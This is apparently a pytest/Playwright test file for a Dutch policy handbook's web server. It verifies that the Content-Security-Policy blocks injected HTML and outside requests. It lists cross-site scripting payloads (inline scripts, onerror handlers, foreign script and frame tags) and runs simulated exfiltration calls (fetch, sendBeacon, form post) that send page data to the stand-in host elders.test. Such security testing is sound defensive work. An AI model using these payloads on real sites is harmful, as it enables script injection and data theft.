"""No page breaks the policy or asks another host: every state of tests/support/states.py in a real browser, behind the server that HR sees and behind nginx."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field, replace
from functools import cache
from itertools import groupby
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Request, Response

from handbook.serve import draft as livereload
from handbook.serve import headers
from handbook.serve import server as serve
from handbook.serve.accessibility.example import Archive
from handbook.serve.accessibility.states import State
from handbook.serve.draft import View
from tests.support import nginx, states
from tests.support.archive_folder import CURRENT, EXPIRED
from tests.support.soaking import SOAK

# With the other test that draws this archive.
pytestmark = pytest.mark.xdist_group("web")

REPORT = """
addEventListener("securitypolicyviolation", event => {
  const told = `${event.effectiveDirective} stops ${event.blockedURI} in ${event.sourceFile || event.documentURI}: ${event.sample}`
  gemeld(told);
  (window.gestopt ||= []).push(told)
})
"""
"""Before anything of the page: what the browser stops goes to the test, and stays in the page for a test that waits for it."""

NARROW = {"width": 390, "height": 844}
WITHIN = ("data", "blob", "about")
"""Addresses for which nobody is asked."""

ELSEWHERE = "https://elders.test/"
ARTICLE = f"{CURRENT}/regels/vertrouwelijk/"


@dataclass(eq=False)
class Watch:
    """What went on while a page was open, in contexts that it sees from their beginning."""

    origin: str
    outside: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    bare: list[str] = field(default_factory=list)

    def clear(self) -> None:
        for told in (self.outside, self.stopped, self.said, self.bare):
            told.clear()

    def found(self) -> list[str]:
        return [*self.outside, *self.stopped, *self.said, *self.bare]

    def on(self, context: BrowserContext) -> None:
        """Every request is looked at, those of workers and prefetches too; the browser finds no address for another host."""
        # Not by a route: that would let every file of ours pass through the test, and nothing would come from the cache.
        context.on("request", self._asked)
        context.on("requestfailed", self._failed)
        context.on("response", self._answered)
        context.on(
            "console", lambda message: self.said.append(f"{message.type}: {message.text}") if message.type in ("error", "warning") else None
        )
        context.on("weberror", lambda error: self.said.append(f"exception: {error.error}"))
        context.on("page", lambda page: page.on("websocket", lambda socket: self.outside.append(socket.url)))
        context.expose_function("gemeld", lambda text: self.stopped.append(text))
        context.add_init_script(REPORT)

    def _asked(self, request: Request) -> None:
        if _origin(request.url) != self.origin and urlsplit(request.url).scheme not in WITHIN:
            self.outside.append(request.url)

    def _failed(self, request: Request) -> None:
        """What the policy stops is told as a request too, and was none."""
        if request.failure == "csp" and request.url in self.outside:
            self.outside.remove(request.url)

    def _answered(self, response: Response) -> None:
        """The policy counts only where it was sent."""
        if (
            _origin(response.url) == self.origin
            and response.headers.get("content-security-policy") != headers.HEADERS["Content-Security-Policy"]
        ):
            self.bare.append(f"no policy: {response.url}")


def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


@pytest.fixture(scope="module")
def own(on_branch: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    """Behind the very server of `handbook serve`, with a draft."""
    root = tmp_path_factory.mktemp("beleid") / "archief"
    shutil.copytree(on_branch, root, ignore=shutil.ignore_patterns(".git"))
    shutil.copytree(root / CURRENT, root / serve.DRAFT)
    with states.served(root) as archive:
        yield archive


@pytest.fixture(scope="module")
def behind_nginx(on_branch: Path) -> Iterator[Archive]:
    """Behind nginx, as an organisation has it."""
    with nginx.readable_folder() as scratch:
        shutil.copytree(on_branch.parent / "www", scratch / "www")
        with nginx.serving(scratch / "www") as running:
            yield Archive(running.root, running.address, states.DAY)


@contextmanager
def watched(browser: Browser, archive: Archive, state: State) -> Iterator[tuple[Page, Watch]]:
    """A page that is looked at from before its first byte."""
    watch = _watch(_origin(archive.address))
    watch.clear()
    with states.opened(browser, state, watch.on, **({"viewport": NARROW} if state.phone else {})) as page:
        yield page, watch


@cache
def _watch(origin: str) -> Watch:
    """One for each server: its contexts are kept."""
    return Watch(origin)


def places(root: Path, draft: bool) -> list[State]:
    """The states, those once that differ in their fragment alone."""
    found = {replace(state, name="", address=state.page): state for state in states.states(root)}
    return [state for state in found.values() if draft or not state.address.startswith(serve.DRAFT)]


RESTED = """
async () => {
  // A browser with tabs asks for the icon; one without a window never does.
  const icons = [...document.querySelectorAll("link[rel~=icon]")].map(link => Object.assign(new Image(), { src: link.href }))
  await Promise.allSettled(icons.map(icon => icon.decode()))
  await new Promise(done => requestIdleCallback(() => setTimeout(done, 50)))
}
"""


def rested(page: Page) -> None:
    """What a page puts off until nothing else is to be done, and what only a window would ask for, it does now."""
    page.evaluate(RESTED)


def visited(browser: Browser, archive: Archive, todo: list[State]) -> list[str]:
    """What went wrong in these states; those that need the same browser have one page in turn."""
    found = []
    for _, alike in groupby(sorted(todo, key=_needs), _needs):
        sharing = [*alike]
        with watched(browser, archive, sharing[0]) as (page, watch):
            for state in sharing:
                states.reach(page, archive, state)
                if state.script:
                    rested(page)
                # A file that the state takes away is missed aloud, and the answer in its place is the test's own.
                expected = ("the server responded with a status of 404", f"no policy: {archive.address}{state.away}") if state.away else ()
                found += [f"{state.name}: {text}" for text in watch.found() if not any(one in text for one in expected)]
                watch.clear()
    return found


def _needs(state: State) -> tuple[bool, bool]:
    return state.script, state.phone


def test_no_state_breaks_the_policy_or_asks_another_host(browser: Browser, own: Archive) -> None:
    """Every eighth state, and with HANDBOEK_SOAK=1 each: what a page may do stands in one header for all of them."""
    assert visited(browser, own, places(own.root, draft=True)[:: 1 if SOAK else 8]) == []


def test_nor_does_any_behind_nginx(browser: Browser, behind_nginx: Archive) -> None:
    """Other headers from the same table, on the same pages: every eighth state, and others, and with HANDBOEK_SOAK=1 each."""
    shown = places(behind_nginx.root, draft=False)[slice(None) if SOAK else slice(4, None, 8)]
    assert len(shown) > 5
    assert visited(browser, behind_nginx, shown) == []


# Fixed and old addresses


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("", f"{CURRENT}/"),
        ("?h=werk#doel", f"{CURRENT}/?h=werk#doel"),
        ("geldend/", f"{CURRENT}/"),
        ("geldend/regels/vertrouwelijk/?h=klant#bedrijfsgeheimen", f"{ARTICLE}?h=klant#bedrijfsgeheimen"),
        (f"{CURRENT}/regels/dilemmas/", f"{CURRENT}/dilemmas/"),
        (f"{CURRENT}/regels/dilemmas/?h=likes#lijst", f"{CURRENT}/dilemmas/?h=likes#lijst"),
        (f"{EXPIRED}/regels/dilemmas/#lijst", f"{EXPIRED}/dilemmas/#lijst"),
    ],
)
@pytest.mark.parametrize("server", ["own", "behind_nginx"])
def test_a_fixed_address_keeps_question_and_place(
    browser: Browser, server: str, old: str, new: str, request: pytest.FixtureRequest
) -> None:
    archive: Archive = request.getfixturevalue(server)
    with watched(browser, archive, State("oud", old)) as (page, watch):
        page.goto(archive.address + old)
        page.wait_for_url(archive.address + new)
        rested(page)
    assert [text for text in watch.found() if "favicon.ico" not in text and "404" not in text] == []


@pytest.mark.parametrize(("old", "new"), [("geldend/doel/", f"{CURRENT}/doel/"), (f"{CURRENT}/regels/dilemmas/", f"{CURRENT}/dilemmas/")])
def test_and_leads_on_without_a_script(browser: Browser, behind_nginx: Archive, old: str, new: str) -> None:
    with states.opened(browser, State("oud", old, script=False)) as page:
        page.goto(behind_nginx.address + old)
        page.wait_for_url(behind_nginx.address + new)


# The draft that cannot be built


def test_what_is_wrong_with_a_draft_shows_under_the_same_policy(browser: Browser, own: Archive) -> None:
    """The overlay has its look, and the page listens for the next build, with no code in the page."""
    wrong = ('docs/doel.md:3: Dit woord is onbekend: "x". Kijk het na. [TAA006]',)
    draft = own.root / serve.DRAFT
    # The state that the server tells, or the page would renew itself without end.
    view = View("gebouwd", draft, wrong, ready=True)
    shown = {
        "fout": (livereload.insert((draft / "doel/index.html").read_bytes(), view), ".hb-melding", "position", "fixed"),
        "wacht": (livereload.instead(replace(view, site=None, wrong=(), ready=False)), ".hb-pagina h1", "fontSize", "26px"),
    }
    for name, (body, selector, key, value) in shown.items():
        # As deep as the page that it was made of.
        (own.root / CURRENT / name).mkdir(exist_ok=True)
        (own.root / CURRENT / name / "index.html").write_bytes(body)
        with watched(browser, own, State(name, f"{CURRENT}/{name}/")) as (page, watch):
            with page.expect_request(f"**{livereload.EVENTS_ADDRESS}"):
                page.goto(f"{own.address}{CURRENT}/{name}/", wait_until="commit")
            page.locator(selector).wait_for()
            assert page.locator(selector).evaluate("(node, key) => getComputedStyle(node)[key]", key) == value
        assert watch.found() == []


# That these tests can fail


BREACHES = {
    "script": ("<script>document.title = 'gelukt'</script>", "script-src-elem stops inline"),
    "style": ("<style>body { color: red }</style>", "style-src-elem stops inline"),
    "attribute": ("<p style='color:red'>x</p>", "style-src-attr stops inline"),
    "handler": ("<img src=x onerror=\"document.title='gelukt'\">", "script-src-attr stops inline"),
    "picture": (f"<img src={ELSEWHERE}a.png>", f"img-src stops {ELSEWHERE}a.png"),
    "icon": (f"<link rel=icon href={ELSEWHERE}a.ico>", f"img-src stops {ELSEWHERE}a.ico"),
    "picture-in-page": ("<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>", "img-src stops data"),
    "sheet": (f"<link rel=stylesheet href={ELSEWHERE}a.css>", f"style-src-elem stops {ELSEWHERE}a.css"),
    "file": (f"<script src={ELSEWHERE}a.js></script>", f"script-src-elem stops {ELSEWHERE}a.js"),
    "frame": (f"<iframe src={ELSEWHERE}></iframe>", f"frame-src stops {ELSEWHERE[:-1]}"),
    "base": (f"<base href={ELSEWHERE}>", f"base-uri stops {ELSEWHERE}"),
    "object": (f"<object data={ELSEWHERE}a.swf></object>", f"object-src stops {ELSEWHERE[:-1]}"),
    "film": (f"<video src={ELSEWHERE}a.mp4></video>", f"media-src stops {ELSEWHERE}a.mp4"),
}


@pytest.mark.parametrize(
    ("server", "name"),
    [("own", name) for name in BREACHES] + [("behind_nginx", name) for name in [*BREACHES][:: 1 if SOAK else 4]],
)
def test_a_breach_is_stopped_and_seen(browser: Browser, server: str, name: str, request: pytest.FixtureRequest) -> None:
    """Somebody got a piece of HTML into a page of ours."""
    archive: Archive = request.getfixturevalue(server)
    html, said = BREACHES[name]
    page_file = archive.root / "inbraak" / name / "index.html"
    page_file.parent.mkdir(parents=True, exist_ok=True)
    page_file.write_text((archive.root / "404.html").read_text("utf-8").replace("</article>", f"{html}</article>"), "utf-8")
    for folder in (page_file.parent, page_file.parent.parent):
        folder.chmod(0o755)
    page_file.chmod(0o644)
    with watched(browser, archive, State("inbraak", "")) as (page, watch):
        page.goto(f"{archive.address}inbraak/{name}/", wait_until="load")
        rested(page)
        with suppress(Error):
            page.wait_for_function("said => window.gestopt?.some(text => text.startsWith(said))", arg=said)
        assert any(text.startswith(said) for text in watch.stopped), watch.found()
        assert page.title() != "gelukt"
    # Stopped before it was asked, so that nobody elsewhere learns of the visit.
    assert watch.outside == []


def test_a_script_that_got_in_can_send_nothing_away(browser: Browser, behind_nginx: Archive) -> None:
    with watched(browser, behind_nginx, State("inbraak", "")) as (page, watch):
        page.goto(behind_nginx.address + ARTICLE)
        with pytest.raises(Error):
            page.evaluate(f"fetch('{ELSEWHERE}?' + document.title)")
        page.evaluate(f"navigator.sendBeacon('{ELSEWHERE}')")
        page.evaluate(f"document.body.append(Object.assign(new Image(), {{ src: '{ELSEWHERE}b.png' }}))")
        # Within the page itself: what a test evaluates is let through.
        tried = page.evaluate("new Promise(done => setTimeout(() => { try { done(eval('1 + 1')) } catch (error) { done(error.name) } }))")
        assert tried == "EvalError"
        page.evaluate(
            f"const f = document.createElement('form'); f.action = '{ELSEWHERE}'; f.method = 'post'; document.body.append(f); f.submit()"
        )
        page.wait_for_timeout(300)
        assert page.url == behind_nginx.address + ARTICLE
    assert watch.outside == []
    for directive in ("connect-src", "img-src", "script-src", "form-action"):
        assert any(text.startswith(directive) for text in watch.stopped), (directive, watch.stopped)


def test_a_request_elsewhere_is_seen_where_no_policy_stops_it(browser: Browser, behind_nginx: Archive) -> None:
    """Without the header the request would leave, and the watch says so."""
    with watched(browser, behind_nginx, State("inbraak", "")) as (page, watch):
        page.route(
            f"{behind_nginx.address}kaal/", lambda route: route.fulfill(content_type="text/html", body=f"<img src={ELSEWHERE}a.png>")
        )
        page.goto(f"{behind_nginx.address}kaal/")
        page.wait_for_load_state("networkidle")
    assert watch.outside == [f"{ELSEWHERE}a.png"]
    assert any("no policy" in text for text in watch.bare)


def test_nobody_else_lays_a_page_over_ours(browser: Browser, behind_nginx: Archive) -> None:
    """frame-ancestors, which a policy within the page could not say."""
    with watched(browser, behind_nginx, State("lijst", "")) as (page, _):
        page.route(
            "http://elders.test/",
            lambda route: route.fulfill(content_type="text/html", body=f"<iframe src={behind_nginx.address}></iframe>"),
        )
        page.goto("http://elders.test/")
        page.wait_for_timeout(500)
        assert all(not frame.url.startswith(behind_nginx.address) for frame in page.frames)
